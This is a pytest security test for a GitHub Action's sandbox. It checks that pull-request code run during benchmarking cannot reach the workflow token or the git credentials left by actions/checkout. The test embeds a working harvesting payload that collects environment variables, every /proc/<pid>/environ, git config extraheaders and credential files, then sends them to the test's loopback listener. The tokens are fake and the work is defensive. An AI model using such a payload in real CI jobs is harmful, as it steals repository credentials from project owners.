"""The pull request's code gets no credential (security review F1): the action run as the App
dispatches it, through action.yml's own steps on the emulated runner (tests/action/runner_job.py),
with a token in the job's environment and the git credentials ``actions/checkout`` persists
(``.git/config`` up to v5, an included file under ``RUNNER_TEMP`` from v6) — a workflow that
forgot ``persist-credentials: false``. The head revision's ``install`` command and benchmark
module record everything they can read — their environment, every readable
``/proc/<pid>/environ``, the git configuration their worktree shows, the clone's configuration
files by path — and the test looks for the secrets in it. (The routes to later steps are
test_sandbox_routes.py's.)"""

from __future__ import annotations

import base64
import json
import subprocess
from pathlib import Path

import pytest

from tests.action.events import workflow_dispatch
from tests.action.runner_job import Collector, EmulatedRunner, processes_with, run_composite, runner_python
from tests.action.target_repo import git, probing_files, two_commit_repo

REPO_ROOT = Path(__file__).resolve().parents[2]
TOKEN = "ghs_FAKEWORKFLOWTOKEN0123456789abcdef"
PERSISTED = "ghs_PERSISTEDCHECKOUTTOKEN98765"
INCLUDED = "ghs_INCLUDEDCREDENTIALSFILE4242"

#: What the PR's code does: send all it can see to the test's listener. ``{port}``, ``{paths}`` and ``{mark}`` are filled in.
RECORDER = '''\
import json, os, subprocess, sys

def record(where):
    seen = {{"where": where, "env": dict(os.environ), "proc": {{}}, "files": {{}}}}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{{pid}}/environ", "rb") as fh:
                    seen["proc"][pid] = fh.read().decode("utf-8", "replace")
            except OSError:
                pass
    git = subprocess.run(["git", "config", "--list", "--show-origin", "--includes"], capture_output=True, text=True)
    seen["git_config"] = git.stdout + git.stderr
    remote = subprocess.run(["git", "remote", "-v"], capture_output=True, text=True)
    seen["git_remote"] = remote.stdout
    for path in {paths!r}:
        try:
            seen["files"][path] = open(path, encoding="utf-8", errors="replace").read()
        except OSError as exc:
            seen["files"][path] = f"unreadable: {{exc}}"
    # something the PR leaves running, to read a later step's environment
    leftover = subprocess.Popen(["sleep", "300"], start_new_session=True)
    seen["leftover_cmdline"] = "sleep 300 " + {mark!r}
    subprocess.Popen(["sh", "-c", "exec -a " + {mark!r} + " sleep 300"], start_new_session=True)
    # out of the sandbox by the only door it has: the network (a loopback listener of the test)
    import socket
    with socket.create_connection(("127.0.0.1", {port}), timeout=10) as s:
        s.sendall(json.dumps(seen).encode() + b"\\n")
'''



def _basic(token: str) -> str:
    return "AUTHORIZATION: basic " + base64.b64encode(f"x-access-token:{token}".encode()).decode()


def _target(root: Path, port: int, checkout: Path, runner_temp: Path):
    """origin with base and head (head adds the recorder to its benchmark), and a one-deep
    checkout holding the credentials actions/checkout persists."""
    origin = root / "origin"
    include = runner_temp / "git-credentials-1234.config"
    paths = [str(checkout / ".git" / "config"), str(include)]
    base = probing_files("record_env", "record")
    base_sha, head_sha = two_commit_repo(origin, checkout, base, {
        "record_env.py": RECORDER.format(port=port, paths=paths, mark=LEFTOVER)})
    # actions/checkout@v4 with persist-credentials: true ...
    git(checkout, "config", "--local", "http.https://github.com/.extraheader", _basic(PERSISTED))
    # ... and @v6: a credentials file under RUNNER_TEMP, included by the clone's config
    runner_temp.mkdir(parents=True, exist_ok=True)
    include.write_text(f'[http "https://github.com/"]\n\textraheader = {_basic(INCLUDED)}\n')
    git(checkout, "config", "--local", "include.path", str(include))
    return checkout, base_sha, head_sha


LEFTOVER = "perfgate-leftover-probe"


def _secrets_in(text: str) -> list[str]:
    encoded = [base64.b64encode(f"x-access-token:{t}".encode()).decode() for t in (TOKEN, PERSISTED, INCLUDED)]
    return [s for s in (TOKEN, PERSISTED, INCLUDED, *encoded) if s in text]


@pytest.mark.slow
@pytest.mark.skipif(__import__("shutil").which("bwrap") is None, reason="bubblewrap is not installed")
def test_pull_request_code_sees_no_token_and_no_git_credential(tmp_path, fake_github):
    import os
    import signal

    server = Collector()
    python = runner_python(tmp_path / "runner-python")
    with EmulatedRunner(tmp_path / "machine", python) as runner:
        checkout, base_sha, head_sha = _target(tmp_path / "target", server.port, runner.workspace,
                                               runner.temp)
        fake_github.state.add_token(TOKEN)
        fake_github.state.add_pull("octo/demo", 7, head_sha=head_sha, base_sha=base_sha, title="Faster sums")
        event = tmp_path / "event.json"
        event.write_text(json.dumps(workflow_dispatch(base_sha=base_sha, head_sha=head_sha, pr_number=7,
                                                      run_id="pg-1")))
        runner.extra_env = {"GITHUB_API_URL": fake_github.url, "GITHUB_EVENT_NAME": "workflow_dispatch",
                            "GITHUB_EVENT_PATH": str(event)}
        # A workflow that puts the token into the whole job's environment, and the runner's own tokens.
        job_env = {"GITHUB_TOKEN": TOKEN, "ACTIONS_ID_TOKEN_REQUEST_TOKEN": TOKEN, "ACTIONS_RUNTIME_TOKEN": TOKEN}
        try:
            run_composite(runner, REPO_ROOT / "action.yml", {"github-token": TOKEN, "run-id": "pg-1"},
                          job_env=job_env, step_id="perfgate", contexts={})
        finally:
            leftovers = processes_with(LEFTOVER, "cmdline")
            for pid in leftovers:
                os.kill(pid, signal.SIGKILL)
            server.__exit__()
    seen = server.messages
    steps = runner.steps
    out = runner.temp / "perfgate"
    doc = json.loads((out / "results.json").read_text())
    assert doc["head"]["sha"] == head_sha and doc["run_id"] == "pg-1"
    assert doc["intent"]["source"] == "pull request and commits"  # the PR's text came through prepare

    assert {s["where"] for s in seen} == {"install", "benchmark"}, [s["where"] for s in seen]
    for s in seen:
        leaks = _secrets_in(json.dumps(s))
        assert leaks == [], f"{s['where']} read {leaks}"
        assert not {k for k in s["env"] if k.startswith(("INPUT_", "ACTIONS_", "GITHUB_"))}, sorted(s["env"])
        assert "extraheader" not in s["git_config"].lower()
        assert str(checkout) not in s["git_remote"]  # the worktree is not the clone's
        assert s["proc"], "the recorder could read no /proc/<pid>/environ at all"
    assert leftovers == [], "a process the pull request's code started outlived the compare step"
    # the token-holding step runs before the one that runs the PR's code; none after it
    names = [s.name for s in steps]
    assert names.index("Prepare (fetch both commits; no pull request code runs here)") < names.index(
        "Compare base and head (no token; the pull request's code runs in the sandbox)")
    # The clone itself no longer holds them either (the notice names what was removed).
    config = subprocess.run(["git", "-C", str(checkout), "config", "--list", "--includes"], capture_output=True,
                            text=True).stdout
    assert "extraheader" not in config
    prepare_log = next(s.stdout for s in steps if s.name.startswith("Prepare"))
    assert "::notice::perfgate removed the git credentials" in prepare_log and not _secrets_in(prepare_log)
